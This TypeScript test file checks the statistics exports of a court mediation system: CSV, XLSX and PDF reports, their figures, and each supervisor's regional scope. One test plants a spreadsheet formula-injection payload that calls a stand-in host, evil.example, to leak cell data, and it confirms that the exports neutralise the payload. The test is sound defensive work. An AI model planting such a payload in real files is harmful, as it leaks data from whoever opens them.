import ExcelJS from 'exceljs';
import type { Response } from 'superagent';
import { createTestApp, TestApp } from '../support/app.js';
import { pdfPages, pdfText } from '../support/pdf-text.js';
import { statsFixture } from '../support/stats-fixture.js';
import { bearer, login, seedWorld, World } from '../support/world.js';

/** Exports obey the same figures and the same scope as the JSON. */
describe('statistics exports (e2e)', () => {
  let t: TestApp;
  let world: World;
  const tok: Record<string, string> = {};

  beforeAll(async () => {
    t = await createTestApp();
  });
  beforeEach(async () => {
    await t.reset();
    world = await seedWorld(t.app);
    for (const u of ['clerka', 'supervisorx', 'supervisorcity']) {
      tok[u] = (await login(t, u)).access;
    }
    await seedFixture();
  });
  afterAll(async () => {
    await t.close();
  });

  const { seedFixture } = statsFixture(() => ({ t, world }));
  const binary = (res: Response, done: (err: Error | null, body: Buffer) => void): void => {
    const chunks: Buffer[] = [];
    res.on('data', (c: Buffer) => chunks.push(c));
    res.on('end', () => done(null, Buffer.concat(chunks)));
  };
  const download = async (user: string, query: string): Promise<Response> =>
    t
      .http()
      .get(`/api/v1/stats/export?${query}`)
      .set(bearer(tok[user]))
      .buffer(true)
      .parse(binary)
      .expect(200);
  const APRIL = 'from=2026-04-01&to=2026-04-30';

  it('CSV: UTF-8 with BOM, Chinese header, a row per township and the totals', async () => {
    const res = await download('clerka', `format=csv&by=township&${APRIL}`);
    expect(res.headers['content-type']).toMatch(/^text\/csv; charset=utf-8/);
    expect(res.headers['content-disposition']).toContain(
      `filename*=UTF-8''${encodeURIComponent('调解统计_township_2026-04-01_2026-04-30.csv')}`,
    );
    const bytes = res.body as Buffer;
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const lines = bytes.subarray(3).toString('utf8').trim().split('\r\n');
    expect(lines[0].split(',').slice(0, 6)).toEqual([
      '乡镇（街道）',
      '受理数',
      '已受理调解数',
      '结案数',
      '未结数',
      '办结率',
    ]);
    expect(lines.slice(1).map((l) => l.split(',').slice(0, 6))).toEqual([
      ['胶西镇', '2', '1', '2', '0', '1'],
      ['胶北街道', '2', '2', '0', '1', '0.5'],
      ['合计', '4', '3', '2', '1', '0.75'],
    ]);
    const header = lines[0].split(',');
    const totals = lines[lines.length - 1].split(',');
    expect(totals[header.indexOf('平均用时（天）')]).toBe('14');
    expect(totals[header.indexOf('用时中位数（天）')]).toBe('14');
  });

  it('XLSX: parses with exceljs, the same numbers, rates formatted as percentages', async () => {
    const res = await download('clerka', `format=xlsx&by=township&${APRIL}`);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(new Uint8Array(res.body as Buffer).buffer as ExcelJS.Buffer);
    const sheet = book.getWorksheet('统计');
    expect(sheet).toBeDefined();
    const values = (row: number) => (sheet!.getRow(row).values as unknown[]).slice(1, 7);
    expect(String(values(1)[0])).toContain('2026-04-01 至 2026-04-30');
    expect(values(2)).toEqual([
      '乡镇（街道）',
      '受理数',
      '已受理调解数',
      '结案数',
      '未结数',
      '办结率',
    ]);
    expect(values(3)).toEqual(['胶西镇', 2, 1, 2, 0, 1]);
    expect(values(5)).toEqual(['合计', 4, 3, 2, 1, 0.75]);
    expect(sheet!.getRow(5).getCell(6).numFmt).toBe('0.00%');
  });

  it('a name that reads as a formula leaves as text in CSV and XLSX (CSV injection)', async () => {
    const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    await t.ds.query(`UPDATE regions SET name = $1 WHERE id = $2`, [EVIL, world.regions.townX]);
    await t.ds.query(`UPDATE users SET display_name = $1 WHERE id = $2`, [
      EVIL,
      world.users.mediatorX1,
    ]);
    for (const by of ['township', 'mediator']) {
      const csv = await download('clerka', `format=csv&by=${by}&${APRIL}`);
      const text = (csv.body as Buffer).subarray(3).toString('utf8');
      // csv-stringify quotes the cell (it holds quotes and a comma); inside, it starts with '.
      expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
      const cells = text.split('\r\n').map((line) => line.split(',')[0]);
      expect(cells.filter((c) => /^"?[=+\-@\t\r]/.test(c))).toEqual([]);

      const xlsx = await download('clerka', `format=xlsx&by=${by}&${APRIL}`);
      const book = new ExcelJS.Workbook();
      await book.xlsx.load(new Uint8Array(xlsx.body as Buffer).buffer as ExcelJS.Buffer);
      const labels: unknown[] = [];
      book.getWorksheet('统计')!.eachRow((row) => {
        for (let i = 1; i <= row.cellCount; i += 1) {
          const cell = row.getCell(i);
          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
          if (typeof cell.value === 'string') labels.push(cell.value);
        }
      });
      expect(labels).toContain(`'${EVIL}`);
      expect(labels.filter((v) => /^[=+\-@\t\r]/.test(String(v)))).toEqual([]);
    }
  });

  it('scope: a township supervisor’s exports never hold another township', async () => {
    for (const format of ['csv', 'xlsx']) {
      for (const by of ['township', 'village', 'court', 'month']) {
        const res = await download('supervisorx', `format=${format}&by=${by}`);
        const text =
          format === 'csv'
            ? (res.body as Buffer).toString('utf8')
            : JSON.stringify(await sheetValues(res.body as Buffer));
        expect(text).not.toContain('胶北街道');
        expect(text).not.toContain('玉皇庙村');
      }
    }
    const city = await download('supervisorcity', 'format=csv&by=township');
    expect((city.body as Buffer).toString('utf8')).toContain('胶北街道');
    await t
      .http()
      .get(`/api/v1/stats/export?format=csv&by=township&regionId=${world.regions.townY}`)
      .set(bearer(tok.supervisorx))
      .expect(404);
    await t
      .http()
      .get('/api/v1/stats/export?format=pdf&by=township')
      .set(bearer(tok.supervisorx))
      .expect(400);
  });

  it('the monthly report PDF holds the summary, the townships, the chart and the definitions', async () => {
    const res = await t
      .http()
      .get('/api/v1/reports/monthly?month=2026-04')
      .set(bearer(tok.clerka))
      .buffer(true)
      .parse(binary)
      .expect(200);
    expect(res.headers['content-type']).toBe('application/pdf');
    const bytes = res.body as Buffer;
    const text = pdfText(bytes);
    expect(text).toContain('胶州市人民法院家事纠纷诉前调解工作月报');
    expect(text).toContain('（2026年4月）');
    for (const figure of [
      '本月受理4件',
      '本月结案2件',
      '办结率75.0%',
      '撤回率33.3%',
      '调解成功率100.0%',
      '平均用时14天',
      '用时中位数14天',
    ])
      expect(text).toContain(figure);
    expect(text).toContain('胶西镇');
    expect(text).toContain('胶北街道');
    expect(text).toMatch(/受理结案.*4月/);
    expect(text).toContain('指标定义办结率：当期受理的案件中，截至目前已结案的比例');
    expect(pdfText(bytes, pdfPages(bytes))).toContain('分母为零的比率记为“—”');
  });

  it('a township supervisor’s report never shows another township', async () => {
    const res = await t
      .http()
      .get('/api/v1/reports/monthly?month=2026-04')
      .set(bearer(tok.supervisorx))
      .buffer(true)
      .parse(binary)
      .expect(200);
    const text = pdfText(res.body as Buffer);
    expect(text).toContain('胶西镇家事纠纷诉前调解工作月报');
    expect(text).toContain('本月受理2件');
    expect(text).not.toContain('胶北街道');
    await t
      .http()
      .get(`/api/v1/reports/monthly?month=2026-04&regionId=${world.regions.townY}`)
      .set(bearer(tok.supervisorx))
      .expect(404);
    const bad = await t
      .http()
      .get('/api/v1/reports/monthly?month=2026-4')
      .set(bearer(tok.supervisorx))
      .expect(400);
    expect(bad.body.errors[0].field).toBe('month');
    // The year 9999 has no month after its December (found by the fuzz: it was a 500).
    const farOff = await t
      .http()
      .get('/api/v1/reports/monthly?month=9999-12')
      .set(bearer(tok.supervisorx))
      .expect(400);
    expect(farOff.body.errors[0]).toMatchObject({ field: 'month', code: 'VALIDATION.MONTH' });
  });

  async function sheetValues(bytes: Buffer): Promise<unknown[]> {
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(new Uint8Array(bytes).buffer as ExcelJS.Buffer);
    const rows: unknown[] = [];
    book.getWorksheet('统计')!.eachRow((row) => rows.push(row.values));
    return rows;
  }
});
